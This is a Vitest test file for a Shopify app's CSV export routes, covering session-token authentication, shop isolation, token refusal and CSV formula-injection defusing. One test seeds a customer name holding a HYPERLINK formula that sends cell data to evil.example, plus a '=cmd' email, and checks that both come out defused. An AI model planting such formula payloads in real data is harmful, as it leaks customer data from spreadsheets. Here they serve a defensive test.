/**
 * Exports inside the real embedded admin: no cookies there, so the CSV routes are fetched with App
 * Bridge's session token as a Bearer header. The route (authenticate.admin, not demo mode) answers the
 * CSV of the token's shop, exchanging the token for an offline access token on first use, and refuses an
 * expired token or one signed with another secret.
 */
import { resolveObjectURL } from "node:buffer";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startFakeAdminApi, type FakeAdminApi } from "../../fake-shopify/admin-api";
import { FakeShopStore } from "../../fake-shopify/admin-api/store";
import { signSessionToken } from "../../fake-shopify/session-token";
import { createTestDatabase, type TestDatabase } from "../support/database";
import { TEST_API_KEY, TEST_API_SECRET, startTestWebApp, type TestWebApp } from "../support/web-app";
import { seedShop } from "../pages/support/seed-shop";

const A = "export-a.myshopify.com";
const B = "export-b.myshopify.com";
const NOW = new Date("2026-11-20T15:00:00Z");
const BROWSER =
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36";

describe("CSV exports with a Shopify session token", () => {
  let database: TestDatabase;
  let fake: FakeAdminApi;
  let web: TestWebApp;

  beforeAll(async () => {
    database = await createTestDatabase();
    fake = await startFakeAdminApi({ shops: [], app: { apiKey: TEST_API_KEY, secret: TEST_API_SECRET } });
    for (const [domain, token] of [
      [A, "shpat_export_a"],
      [B, "shpat_export_b"],
    ] as const) {
      const store = new FakeShopStore({
        domain,
        name: domain,
        currencyCode: "USD",
        ianaTimezone: "UTC",
        taxesIncluded: false,
      });
      fake.addShop({ store, accessToken: token, scopes: ["read_orders", "read_customers"] });
    }
    await seedShop(database.prisma, {
      domain: A,
      customers: 60,
      days: 200,
      now: NOW,
      seed: 1,
      idBase: 1_000_000,
    });
    await seedShop(database.prisma, {
      domain: B,
      customers: 80,
      days: 200,
      now: NOW,
      seed: 2,
      idBase: 2_000_000,
    });
    web = await startTestWebApp({
      databaseUrl: database.url,
      extra: { SHOPIFY_ADMIN_API_ORIGIN: fake.origin, DEMO_MODE: "false" },
    });
  }, 180_000);
  afterAll(async () => {
    await web?.close();
    await fake?.close();
    await database?.drop();
  });

  const exportWith = (path: string, token: string | null) =>
    fetch(`${web.url}${path}`, {
      headers: { "User-Agent": BROWSER, ...(token ? { Authorization: `Bearer ${token}` } : {}) },
      redirect: "manual",
    });
  const tokenFor = (shop: string, extra: Partial<Parameters<typeof signSessionToken>[0]> = {}) =>
    signSessionToken({ shop, apiKey: TEST_API_KEY, secret: TEST_API_SECRET, ...extra });

  it("answers the KPI table's CSV for the token's shop, after exchanging the token for an access token", async () => {
    const a = await exportWith("/app/kpi/aov/csv?range=last-90-days", tokenFor(A));
    expect(a.status).toBe(200);
    expect(a.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(a.headers.get("content-disposition")).toMatch(/^attachment; filename="aov-/);
    const csvA = await a.text();
    expect(csvA.split("\r\n")[0]).toMatch(/^Period,From,To,Average order value \(USD\)/);

    const b = await exportWith("/app/kpi/aov/csv?range=last-90-days", tokenFor(B));
    expect(b.status).toBe(200);
    const csvB = await b.text();
    expect(csvB).not.toBe(csvA);
    // The shop comes from the token alone: a shop parameter naming B changes nothing.
    expect(
      await (await exportWith(`/app/kpi/aov/csv?range=last-90-days&shop=${B}`, tokenFor(A))).text(),
    ).toBe(csvA);

    // Token exchange ran once per shop, against Shopify's endpoint, and its token is stored encrypted.
    expect(
      fake.requests.filter((r) => r.path === "/admin/oauth/access_token" && r.status === 200),
    ).toHaveLength(2);
    const session = await database.prisma.session.findUniqueOrThrow({ where: { id: `offline_${A}` } });
    expect(session.accessToken).not.toContain("shpat_export_a");
  });

  it("the admin's export helper fetches with App Bridge's session token and saves the CSV", async () => {
    const saved: { href: string; download: string; clicked: boolean }[] = [];
    const link = () => {
      const element = {
        href: "",
        download: "",
        style: {},
        clicked: false,
        click: () => void (element.clicked = true),
        remove: () => undefined,
      };
      saved.push(element);
      return element;
    };
    const nodeFetch = globalThis.fetch;
    // What a browser adds on its own: its user agent (authenticate.admin answers bots with 410).
    const browserFetch: typeof fetch = (input, init) =>
      nodeFetch(input, {
        ...init,
        headers: { ...(init?.headers as Record<string, string>), "User-Agent": BROWSER },
      });
    Object.assign(globalThis, {
      fetch: browserFetch,
      shopify: { idToken: async () => tokenFor(A) },
      document: { createElement: link, body: { append: () => undefined } },
    });
    try {
      const { downloadFile } = await import("~/components/download-file");
      await downloadFile(`${web.url}/app/kpi/aov/csv?range=last-90-days`, "aov.csv");
      expect(saved).toHaveLength(1);
      expect(saved[0]).toMatchObject({ download: "aov.csv", clicked: true });
      const blob = resolveObjectURL(saved[0]!.href);
      const expected = await (await exportWith("/app/kpi/aov/csv?range=last-90-days", tokenFor(A))).text();
      expect(await blob!.text()).toBe(expected);

      // A refused token becomes a message for the merchant, and nothing is saved.
      Object.assign(globalThis, {
        shopify: { idToken: async () => tokenFor(A, { secret: "not-the-app-secret" }) },
      });
      await expect(downloadFile(`${web.url}/app/kpi/aov/csv`, "aov.csv")).rejects.toThrow(
        "Your session has expired. Reload the page, then try the download again.",
      );
      expect(saved).toHaveLength(1);
    } finally {
      globalThis.fetch = nodeFetch;
      Reflect.deleteProperty(globalThis, "shopify");
      Reflect.deleteProperty(globalThis, "document");
    }
  });

  it("answers the customers CSV route for the token's shop, never with another shop's customers", async () => {
    const response = await exportWith("/app/customers/csv", tokenFor(A));
    expect(response.status).toBe(200);
    const csv = await response.text();
    expect(csv.split("\r\n")[0]).toMatch(/^Customer,Email,Segment,/);
    expect(csv).not.toMatch(/customer2\d{6}@/); // shop B's ids start at 2,000,000
  });

  it("a shopper's formula-shaped name reaches the customers CSV defused", async () => {
    const shop = await database.prisma.shop.findUniqueOrThrow({ where: { domain: A } });
    const hostile = '-1+HYPERLINK("http://evil.example/?d="&B2,"Refund")';
    const at = new Date("2026-01-02T00:00:00Z");
    await database.prisma.customer.create({
      data: {
        shopId: shop.id,
        id: 9_999_001n,
        email: "=cmd@evil.example",
        firstName: hostile,
        lastName: null,
        shopifyCreated: at,
        shopifyUpdated: at,
      },
    });
    await database.prisma.clvPrediction.create({
      data: {
        shopId: shop.id,
        customerKey: "c:9999001",
        frequency: 2,
        recencyDays: 30,
        ageDays: 90,
        pAlive: 0.9,
        expectedOrders: 1.5,
        expectedOrderValue: 4000,
        predictedClv: 6000,
        churnRisk: "active",
      },
    });
    const csv = await (await exportWith("/app/customers/csv", tokenFor(A))).text();
    const line = csv.split("\r\n").find((row) => row.includes("HYPERLINK"));
    expect(line).toBeDefined();
    expect(line!.startsWith(`"'-1+HYPERLINK(`)).toBe(true);
    expect(line).toContain(",'=cmd@evil.example,");
  });

  it("refuses an expired token, one signed with another secret, and one for another app", async () => {
    const cases = [
      tokenFor(A, { now: new Date(Date.now() - 10 * 60_000) }),
      signSessionToken({ shop: A, apiKey: TEST_API_KEY, secret: "not-the-app-secret" }),
      tokenFor(A, { overrides: { aud: "another-app" } }),
      "not.a.token",
    ];
    for (const token of cases) {
      const response = await exportWith("/app/kpi/aov/csv?range=last-90-days", token);
      expect(response.status).toBe(401);
      // App Bridge retries once with a fresh token when it sees this header.
      expect(response.headers.get("x-shopify-retry-invalid-session-request")).toBe("1");
      expect(await response.text()).not.toContain("Period");
    }
  });

  it("without a token (a plain link inside the admin) no CSV is sent", async () => {
    const response = await exportWith("/app/kpi/aov/csv?range=last-90-days", null);
    expect(response.status).not.toBe(200);
    expect(response.headers.get("content-type") ?? "").not.toContain("text/csv");
  });
});
